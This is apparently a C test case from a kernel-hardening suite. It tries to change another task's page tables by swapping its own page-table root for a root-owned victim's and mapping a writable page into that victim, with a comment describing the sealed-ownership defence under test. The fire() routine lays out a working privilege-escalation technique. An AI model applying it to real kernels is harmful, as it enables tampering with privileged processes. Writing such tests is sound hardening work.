// SPDX-License-Identifier: GPL-2.0-only
#include "attack.h"

ATTACK("pgtable_integrity", "map_into_other",
       "pgtable_integrity: page tables of another task changed",
       "The program replaces the root in its address space by that of a program of "
       "root, and maps a page that it writes.",
       "Each page-table root says in sealed memory whose it is, and the kernel asks "
       "before it adds an entry and after each switch.",
       "The page appears in the middle of root's program.");

static bool control(void)
{
	return is_ordinary();
}

static volatile char memory[4096] __attribute__((aligned(4096)));

/* The victim has two seconds to see the page. */
static bool appeared(void)
{
	for (int i = 0; i < 200; i++) {
		if (call3(__NR_open, (long)"/tmp/seen", O_RDONLY, 0) >= 0)
			return true;
		sleep_milliseconds(10);
	}
	return false;
}

static bool fire(void)
{
	const uint64_t task = own_task(), other = own_root(victim_task(task));
	const uint64_t space_root =
		peek(task + member("task.space")) + member("address_space.root");
	const uint64_t own = peek(space_root);
	const long file = call2(__NR_memfd_create, (long)"page", 0);
	volatile char *mine;

	/* Alone on its processor: nothing may switch while the root is another's. */
	(void)own_cpu(1);
	call2(__NR_ftruncate, file, 4096);
	mine = (volatile char *)call6(__NR_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file,
				      0);
	mine[0] = 'X';
	poke(space_root, other);
	call6(__NR_mmap, (long)memory, 4096, PROT_READ | PROT_WRITE,
	      MAP_SHARED | MAP_FIXED | MAP_POPULATE, file, 0);
	poke(space_root, own);
	return appeared();
}

/* Says when its memory has changed under its eyes. */
static void victim(void)
{
	(void)own_cpu(0);
	for (;;) {
		if (memory[0] == 'X')
			call3(__NR_open, (long)"/tmp/seen", O_CREAT | O_RDWR, 0644);
		sleep_milliseconds(5);
	}
}
